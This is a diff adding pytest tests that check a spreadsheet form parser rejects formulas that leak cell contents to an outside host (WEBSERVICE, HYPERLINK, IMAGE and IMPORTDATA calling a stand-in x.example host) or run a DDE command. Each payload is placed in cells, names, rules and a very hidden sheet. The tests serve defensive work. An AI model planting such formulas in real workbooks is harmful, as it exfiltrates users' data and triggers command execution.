@@ -1,4 +1,4 @@
-"""Templates that a stranger made: what would fill the memory."""
+"""Templates that a stranger made: what would fill the memory, and what would tell others what is filled in."""
 
 import io
 import zipfile
@@ -6,7 +6,10 @@ from typing import Any
 
 import pytest
 from openpyxl import Workbook
+from openpyxl.formatting.rule import Rule
+from openpyxl.workbook.defined_name import DefinedName
 from openpyxl.worksheet.datavalidation import DataValidation
+from openpyxl.worksheet.formula import ArrayFormula
 
 from ops.demo_forms import CARD, GROUPED, LIST
 from server.forms.books import Form
@@ -86,6 +89,65 @@ def test_a_form_that_would_grow_beyond_all_measure_is_refused() -> None:
     assert refused.value.reason is Reason.TOO_BIG
 
 
+@pytest.mark.parametrize(
+    "formula",
+    [
+        '=WEBSERVICE("http://x.example/?"&C2)',
+        '=IF(C2="","",_xlfn.WEBSERVICE("http://x.example/?"&C2))',
+        '=HYPERLINK("http://x.example/?"&C2,"查看")',
+        '=HYPERLINK("#"&C2,"查看")',
+        '=_xlfn.image("http://x.example/"&C2)',
+        '=IMPORTDATA("http://x.example/"&C2)',
+        "=cmd|'/c calc'!A0",
+    ],
+)
+def test_a_formula_that_tells_others_is_refused_wherever_it_stands(formula: str) -> None:
+    for put in (_in_cell, _as_array, _under_name, _in_rule, _by_look, _out_of_sight):
+        book, sheet = _book()
+        put(book, sheet, formula)
+        with pytest.raises(NotRead) as refused:
+            Form(_bytes(book))
+        assert refused.value.reason is Reason.TELLS_OTHERS
+
+
+@pytest.mark.parametrize(
+    "formula",
+    ["=SUM(A2:A9)", '=HYPERLINK("#代码!A1","代码表")', '=IF(A2="CALL(|)","是","否")', '=RECALL_(A2)&"IMAGE"'],
+)
+def test_a_formula_that_only_reckons_stays(formula: str) -> None:
+    book, sheet = _book()
+    _in_cell(book, sheet, formula)
+    assert Form(_bytes(book)).text(0, (9, 5)) == formula
+
+
 @pytest.mark.parametrize("raw", [LIST, CARD, GROUPED])
 def test_a_departments_forms_are_read(raw: bytes) -> None:
     assert Form(raw).titles
+
+
+def _in_cell(_book: Workbook, sheet: Any, formula: str) -> None:
+    sheet["E9"] = formula
+
+
+def _as_array(_book: Workbook, sheet: Any, formula: str) -> None:
+    sheet["E9"] = ArrayFormula("E9:E9", formula)
+
+
+def _under_name(book: Workbook, _sheet: Any, formula: str) -> None:
+    book.defined_names["名"] = DefinedName("名", attr_text=formula[1:])
+
+
+def _in_rule(_book: Workbook, sheet: Any, formula: str) -> None:
+    rule: Any = DataValidation(type="custom", formula1=formula[1:])
+    rule.add("E9")
+    sheet.add_data_validation(rule)
+
+
+def _by_look(_book: Workbook, sheet: Any, formula: str) -> None:
+    sheet.conditional_formatting.add("E9", Rule(type="expression", formula=[formula[1:]]))
+
+
+def _out_of_sight(book: Workbook, _sheet: Any, formula: str) -> None:
+    hidden: Any = book.create_sheet("隐")
+    hidden.sheet_state = "veryHidden"
+    hidden["A1"] = formula
